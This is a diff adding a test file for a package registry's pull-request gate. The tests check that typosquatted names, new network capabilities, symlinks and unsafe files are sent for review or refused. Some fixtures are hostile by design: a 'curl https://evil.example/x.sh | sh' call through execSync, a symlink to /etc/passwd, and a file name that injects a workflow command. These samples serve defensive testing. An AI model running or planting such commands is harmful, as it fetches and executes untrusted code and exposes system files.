@@ -1,0 +1,325 @@
+/** The gate's rules about builds and their versions, on real repositories. */
+import { describe, expect, it } from 'vitest';
+import { GateVerdict } from '../../format/gate-verdict.ts';
+import { build, manifest } from '../generate/git-fixture.ts';
+import type { Files } from '../generate/git-fixture.ts';
+import {
+  ALICE,
+  CAROL,
+  GateFixture,
+  MALLORY,
+  REGISTRY,
+  codes,
+  ownerFile,
+  without,
+} from './gate-fixture.ts';
+
+describe('judgePullRequest() merges', () => {
+  it('a new version by its owner, and says what changed', async () => {
+    const gate = new GateFixture();
+    const verdict = await gate.propose(build('alice/web-forms', '1.1.0'));
+    expect(verdict).toMatchObject({ verdict: 'merge', reasons: [], review_hours: 0 });
+    expect(GateVerdict.parse(verdict)).toEqual(verdict);
+    expect(verdict.builds).toMatchObject([
+      {
+        id: 'alice/web-forms',
+        version: '1.1.0',
+        previous: '1.0.0',
+        risk: 'ok',
+        files: [
+          { path: 'README.md', change: 'changed', added: 1, removed: 1 },
+          { path: 'src/index.ts', change: 'changed', added: 1, removed: 1 },
+          { path: 'stackyard.json', change: 'changed', added: 1, removed: 1 },
+        ],
+      },
+    ]);
+  });
+
+  it('a version of an older major line, and a prerelease of a newer one', async () => {
+    const gate = new GateFixture();
+    gate.git.commit(build('alice/web-forms', '2.0.0'));
+    expect(codes(await gate.propose(build('alice/web-forms', '1.0.1')))).toEqual([]);
+    expect(codes(await gate.propose(build('alice/web-forms', '3.0.0-rc.1')))).toEqual([]);
+  });
+
+  it('the version on top of what landed since the branch began', async () => {
+    const gate = new GateFixture();
+    const head = gate.pull(build('alice/web-forms', '1.1.0'));
+    gate.git.commit(build('carol/mail-queue', '1.1.0'));
+    const verdict = await gate.judge(head);
+    expect(verdict.verdict).toBe('merge');
+    gate.land(verdict);
+    expect(gate.git.git('show', 'main:builds/carol/mail-queue/stackyard.json')).toContain('1.1.0');
+    expect(gate.git.git('show', 'main:builds/alice/web-forms/stackyard.json')).toContain('1.1.0');
+  });
+});
+
+describe('judgePullRequest() leaves to an admin', () => {
+  it('the first build of an owner', async () => {
+    const gate = new GateFixture();
+    const files = {
+      'builds/mallory/owner.json': ownerFile(66),
+      ...build('mallory/image-cutter', '1.0.0'),
+    };
+    const verdict = await gate.propose(files, MALLORY);
+    expect(codes(verdict)).toEqual(['gate-first-build', 'gate-new-name']);
+    expect(verdict).toMatchObject({ verdict: 'review', review_hours: 48 });
+  });
+
+  it('a new name, and one that another owner has', async () => {
+    const gate = new GateFixture();
+    expect(codes(await gate.propose(build('alice/image-cutter', '1.0.0')))).toEqual([
+      'gate-new-name',
+    ]);
+    expect(codes(await gate.propose(build('alice/mail-queue', '1.0.0')))).toEqual([
+      'gate-name-twin',
+      'gate-new-name',
+    ]);
+  });
+
+  it('a name like others that anybody would choose', async () => {
+    const gate = new GateFixture();
+    for (const name of ['rate-limit', 'account', 'mail-queue-js']) {
+      const verdict = await gate.propose(build(`alice/${name}`, '1.0.0'));
+      expect([verdict.verdict, codes(verdict)]).toEqual([
+        'review',
+        ['gate-name-like', 'gate-new-name'],
+      ]);
+    }
+  });
+
+  it('a name near another that the configuration approves', async () => {
+    const config = { approved_names: ['alice/mail-queu'] };
+    const gate = new GateFixture({ ...REGISTRY, 'registry.config.json': JSON.stringify(config) });
+    expect(codes(await gate.propose(build('alice/mail-queu', '1.0.0')))).toEqual(['gate-new-name']);
+  });
+
+  it('a capability that the version before had not, named', async () => {
+    const gate = new GateFixture();
+    const verdict = await gate.propose(
+      build(
+        'alice/web-forms',
+        '1.1.0',
+        {},
+        {
+          'src/index.ts': "export const send = () => fetch('https://example.org/collect');\n",
+        },
+      ),
+    );
+    expect(verdict.verdict).toBe('review');
+    expect(codes(verdict)).toContain('gate-capability');
+    expect(verdict.builds[0]?.gained?.hosts).toEqual(['example.org']);
+    expect(verdict.reasons.find((r) => r.code === 'gate-capability')?.message).toContain(
+      'sends to example.org',
+    );
+  });
+
+  it('a version that is put back as it was published', async () => {
+    const gate = new GateFixture();
+    gate.git.commit({ 'builds/alice/web-forms/src/index.ts': 'broken\n' });
+    const verdict = await gate.propose(build('alice/web-forms', '1.0.0'));
+    expect(codes(verdict)).toEqual(['gate-restored']);
+  });
+});
+
+describe('judgePullRequest() refuses', () => {
+  const cases: [string, Files, string[]][] = [
+    [
+      'content without a new version',
+      { 'builds/alice/web-forms/src/index.ts': 'export const version = "other";\n' },
+      ['gate-version-published'],
+    ],
+    ['a deleted build', without('alice/web-forms'), ['gate-build-deleted']],
+    [
+      'a version that is not the greatest of its major line',
+      build('alice/page-tables', '2.0.9'),
+      ['gate-version-order'],
+    ],
+    [
+      'a manifest with faults, each with file and remedy',
+      { 'builds/alice/web-forms/stackyard.json': manifest('web-forms', '1.1', { kind: 'theme' }) },
+      ['manifest-field-value'],
+    ],
+    ['a missing manifest', { 'builds/alice/web-forms/stackyard.json': null }, ['manifest-missing']],
+    [
+      'a file that steers git in the registry',
+      build('alice/web-forms', '1.1.0', {}, { 'src/.gitattributes': '* filter=evil\n' }),
+      ['gate-attributes'],
+    ],
+    [
+      'a file in an owner folder and in no build',
+      { ...build('alice/web-forms', '1.1.0'), 'builds/alice/notes.txt': 'x' },
+      ['gate-stray'],
+    ],
+    ['a name that is reserved', build('alice/search', '1.0.0'), ['gate-name-reserved']],
+    [
+      'a name near the build of another owner',
+      build('alice/mail-queu', '1.0.0'),
+      ['gate-name-near', 'gate-new-name'],
+    ],
+    [
+      'a name near a well-known package',
+      build('alice/reqeusts', '1.0.0'),
+      ['gate-name-near', 'gate-new-name'],
+    ],
+    [
+      'a name that is drawn like another',
+      build('alice/rnail-queue', '1.0.0'),
+      ['gate-name-near', 'gate-new-name'],
+    ],
+    [
+      'a folder that differs in case only',
+      build('alice/Web-Forms', '1.1.0'),
+      ['build-id-case', 'build-id-name'],
+    ],
+    [
+      'letters of another script in a name',
+      build('alice/w\u0435b-forms', '1.1.0'),
+      ['build-id-name'],
+    ],
+    [
+      'a build that requires what the registry has not',
+      build('alice/web-forms', '1.1.0', { builds: { 'carol/nothing': '^1.0.0' } }),
+      ['gate-requirement'],
+    ],
+    [
+      'the generator together with a build',
+      { ...build('alice/web-forms', '1.1.0'), 'generator/main.ts': 'evil();\n' },
+      ['gate-mixed'],
+    ],
+    [
+      'a workflow together with a build',
+      { ...build('alice/web-forms', '1.1.0'), '.github/workflows/publish.yml': 'on: evil\n' },
+      ['gate-mixed'],
+    ],
+    [
+      'the configuration together with an owner file',
+      { 'builds/alice/owner.json': ownerFile(11), 'registry.config.json': '{}' },
+      ['gate-maintainers', 'gate-mixed'],
+    ],
+    [
+      'a file name with a newline',
+      build('alice/web-forms', '1.1.0', {}, { 'src/a\n::error::b.ts': 'x\n' }),
+      ['file-path-invisible'],
+    ],
+  ];
+  it.each(cases)('%s', async (_, files, expected) => {
+    const gate = new GateFixture();
+    const verdict = await gate.propose(files);
+    expect(codes(verdict)).toEqual(expected);
+    expect(verdict.verdict).toBe('refuse');
+    expect(verdict.reasons.every(({ message, remedy }) => message !== '' && remedy !== '')).toBe(
+      true,
+    );
+  });
+
+  it('a build that is dangerous, naming the lines', async () => {
+    const gate = new GateFixture();
+    const verdict = await gate.propose(
+      build(
+        'alice/web-forms',
+        '1.1.0',
+        {},
+        {
+          'src/index.ts':
+            "import { execSync } from 'node:child_process';\nexecSync('curl https://evil.example/x.sh | sh');\n",
+        },
+      ),
+    );
+    expect(verdict.verdict).toBe('refuse');
+    expect(codes(verdict)).toContain('gate-danger');
+    expect(verdict.reasons.some((r) => r.file.endsWith('src/index.ts') && r.line > 0)).toBe(true);
+  });
+
+  it('a symbolic link and a submodule, in a build and in its place', async () => {
+    const gate = new GateFixture();
+    const link = await gate.propose(build('alice/web-forms', '1.1.0'), ALICE, (git) =>
+      git.symlink('builds/alice/web-forms/passwd', '/etc/passwd'),
+    );
+    expect(codes(link)).toEqual(['file-symlink']);
+    const place = await gate.propose({}, ALICE, (git) =>
+      git.symlink('builds/alice/linked', '/etc'),
+    );
+    expect(codes(place)).toEqual(['build-id-symlink']);
+    const owner = await gate.propose({}, MALLORY, (git) => git.symlink('builds/mallory', '/etc'));
+    expect(owner.verdict).toBe('refuse');
+  });
+
+  it('a version that was published once and has left the tree', async () => {
+    const gate = new GateFixture();
+    gate.git.commit(build('alice/web-forms', '1.1.0'));
+    gate.git.commit(without('alice/web-forms'));
+    const files = build('alice/web-forms', '1.1.0', {}, { 'src/index.ts': 'export {};\n' });
+    const verdict = await gate.propose(files);
+    expect(codes(verdict)).toEqual(['gate-version-published']);
+  });
+
+  it('the second of two pull requests that publish one version', async () => {
+    const gate = new GateFixture();
+    const first = gate.pull(build('alice/web-forms', '1.1.0', {}, { 'src/a.ts': 'export {};\n' }));
+    const second = gate.pull(build('alice/web-forms', '1.1.0', {}, { 'src/b.ts': 'export {};\n' }));
+    const verdict = await gate.judge(first);
+    expect(verdict.verdict).toBe('merge');
+    gate.land(verdict);
+    expect(codes(await gate.judge(second))).toEqual(['gate-version-published']);
+  });
+
+  it('a merge that gives no valid manifest, though both sides are valid', async () => {
+    const keys = (a: string, b: string): string =>
+      JSON.stringify(
+        {
+          ...JSON.parse(manifest('web-forms', '1.1.0')),
+          files: ['src/**'],
+          ...(a === '' ? {} : { base: a }),
+          keywords: Array.from({ length: 12 }, (_, at) => `word-${at}`),
+          env: b === '' ? {} : { A_KEY: { description: b } },
+        },
+        null,
+        2,
+      );
+    const base = keys('', '');
+    const gate = new GateFixture({ ...REGISTRY, 'builds/alice/web-forms/stackyard.json': base });
+    // Both sides add the same key, one at the top and one at the end: merging gives it twice.
+    const twice = base.replace(
+      '"version": "1.1.0"',
+      '"version": "1.2.0",\n  "homepage": "https://a.example"',
+    );
+    const head = gate.pull({ 'builds/alice/web-forms/stackyard.json': twice });
+    gate.git.commit({
+      'builds/alice/web-forms/stackyard.json': base.replace(
+        '"env": {}',
+        '"env": {},\n  "homepage": "https://a.example"',
+      ),
+    });
+    const verdict = await gate.judge(head);
+    expect(verdict.verdict).toBe('refuse');
+    expect(codes(verdict)).toContain('manifest-key');
+  });
+
+  it('what conflicts, naming the files, and what shares no history', async () => {
+    const gate = new GateFixture();
+    const head = gate.pull(build('alice/web-forms', '1.1.0'));
+    gate.git.commit(build('alice/web-forms', '1.2.0'));
+    const verdict = await gate.judge(head);
+    expect(codes(verdict)).toEqual(['gate-conflict']);
+    expect(verdict.reasons.map((r) => r.file)).toContain('builds/alice/web-forms/stackyard.json');
+    gate.git.git('checkout', '-q', '--orphan', 'other');
+    gate.git.commit(build('alice/web-forms', '1.3.0'));
+    gate.git.git('checkout', '-q', 'main');
+    expect(codes(await gate.judge('other'))).toEqual(['gate-unrelated']);
+    expect(codes(await gate.judge('main'))).toEqual(['gate-nothing']);
+  });
+
+  it('an author that owns nothing there', async () => {
+    const gate = new GateFixture();
+    const verdict = await gate.propose(build('alice/web-forms', '1.1.0'), CAROL);
+    expect(codes(verdict)).toEqual(['gate-owner-foreign']);
+    expect(verdict.builds).toEqual([]);
+  });
+
+  it('nothing of the registry itself: that is reviewed', async () => {
+    const gate = new GateFixture();
+    const verdict = await gate.propose({ 'generator/main.ts': 'export const a = 1;\n' }, MALLORY);
+    expect([verdict.verdict, codes(verdict)]).toEqual(['review', ['gate-no-build']]);
+  });
+});
